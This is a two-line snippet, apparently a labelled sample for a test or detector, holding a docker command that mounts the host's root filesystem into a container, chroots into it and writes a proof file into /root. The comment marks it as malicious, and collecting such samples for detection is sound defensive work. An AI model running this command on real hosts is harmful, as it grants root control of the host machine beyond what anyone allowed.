# malicious: mounts the host into a container
docker run --rm -v /:/host alpine chroot /host sh -c 'id > /root/owned'
